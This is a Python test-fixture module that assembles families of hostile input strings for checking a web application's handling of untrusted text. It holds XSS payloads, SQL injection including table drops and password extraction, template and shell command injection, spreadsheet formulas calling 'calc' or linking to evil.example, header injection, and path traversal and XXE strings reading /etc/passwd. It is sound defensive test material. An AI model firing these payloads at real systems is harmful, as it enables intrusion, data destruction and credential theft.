"""Three hundred strings that do harm where text is taken for something else. ``FEW``: one of each family."""

from __future__ import annotations

from itertools import product
from typing import Final

FLAG: Final = "window.struck=1"
"""What every script among them would do in a browser."""

_SCRIPTS: Final = [
    f"<script>{FLAG}</script>",
    f"<ScRiPt>{FLAG}</sCrIpT>",
    f"<script/x>{FLAG}</script>",
    f"<scr<script>ipt>{FLAG}</scr</script>ipt>",
    f"<script src=data:text/javascript,{FLAG}></script>",
    f"<img src=x onerror={FLAG}>",
    f"<img/src/onerror={FLAG}>",
    f"<svg onload={FLAG}>",
    f"<svg/onload={FLAG}//",
    f"<svg><script>{FLAG}</script></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x></svg>",
    f"<math><mtext><img src=x onerror={FLAG}></mtext></math>",
    f"<body onload={FLAG}>",
    f"<input autofocus onfocus={FLAG}>",
    f"<details open ontoggle={FLAG}>",
    f"<video><source onerror={FLAG}></video>",
    f"<iframe srcdoc='<script>parent.{FLAG}</script>'></iframe>",
    f"<iframe src=javascript:parent.{FLAG}></iframe>",
    f"<a href=javascript:{FLAG}>x</a>",
    f"<a href='java\tscript:{FLAG}'>x</a>",
    f"<form action=javascript:{FLAG}><button>x</button></form>",
    f"<object data=javascript:{FLAG}></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    f"<noscript><p title='</noscript><img src=x onerror={FLAG}>'></noscript>",
    f"<template><img src=x onerror={FLAG}></template>",
    f"<textarea></textarea><script>{FLAG}</script>",
    f"<!--><img src=x onerror={FLAG}>-->",
]
# What closes the place where the text stands, before each of six scripts.
_CLOSERS: Final = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "]]>",
    "</td></tr></table>",
    "</svg>",
    "`",
    "\\",
]
_BROKEN_OUT: Final = [
    f"{closer}{script}" for closer, script in product(_CLOSERS[1:], [_SCRIPTS[0], *_SCRIPTS[5:10]])
]
_ATTRIBUTES: Final = [
    f"{quote}{gap}on{event}={quote}{FLAG}"
    for quote, gap, event in product(('"', "'", ""), (" ", "/", "\x0c"), ("mouseover", "focus", "error"))
]
_TEMPLATES: Final = [
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}",
    "{actor.__class__}",
    "%(secret)s",
    "%s%s%s%n%x",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
]
_SQL: Final = [
    "' OR '1'='1",
    "'; DROP TABLE pilot_person;--",
    '" OR ""="',
    "1) OR (1=1",
    "' UNION SELECT password FROM pilot_person--",
    "1; SELECT pg_sleep(5)",
    "'||pg_sleep(5)--",
    "\\'; SELECT 1;--",
    "$$; SELECT 1; $$",
    "E'\\x27'",
    "%",
    "_",
    "pk__gt=0",
    "password__startswith",
    "-password",
    "?",
    "unit__organisation__members__person__password",
]
_FORMULAS: Final = [
    f"{sign}{rest}"
    for sign, rest in product(
        ("=", "+", "-", "@", "\t=", "\r=", "＝"),
        ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(A1:A9)"),
    )
]
_LINES: Final = [
    f"x{end}{rest}"
    for end, rest in product(
        ("\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "%0d%0a"),
        (
            "2026-01-01 00:00:00,000 CRITICAL django.security forged",
            "Bcc: x@evil.example",
            "Set-Cookie: a=b",
            "\r\n<script>window.struck=1</script>",
        ),
    )
]
_PATHS: Final = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "php://filter/resource=x",
    "http://127.0.0.1:9/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "CON",
    "a/../b",
    "%2e%2e%2f",
    "....//",
]
_LETTERS: Final = [
    "\u202egnp.exe",
    "\u2066x\u2069",
    "a\u200bb\u200cc\u200dd",
    "\ufeffBOM",
    "e\u0301" * 30,
    "Z̸̧̛͙̈͊͆a̷l̶g̵o̴" * 9,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 9,
    "𠮷𡈽龘靐齉爩" * 9,
    "ﷺ" * 20,
    "א" * 60,
    "Ａ＜ｓｃｒｉｐｔ＞",
    "‹script›",
    "İıſK",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "1e999",
    "9" * 200,
    "W" * 250,
    "长" * 250,
    "www." + "a" * 200 + ".example",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "[x](javascript:window.struck=1)",
    "![x](http://evil.example/x.png)",
    "<http://evil.example>",
    "*bold* _x_ `x`",
    "# heading",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<![CDATA[x]]>",
    "</UploadData>",
    '{"a": 1}',
    "'; alert(1);//",
    "\\",
    '"',
    "'",
    "<",
    ">",
    "&",
    "\t",
    "a\tb",
    "a b",
]
_FAMILIES: Final = [
    _SCRIPTS,
    _BROKEN_OUT,
    _ATTRIBUTES,
    _TEMPLATES,
    _SQL,
    _FORMULAS,
    _LINES,
    _PATHS,
    _LETTERS,
]
CORPUS: Final = list(dict.fromkeys(text for family in _FAMILIES for text in family))
FEW: Final = [family[0] for family in _FAMILIES]
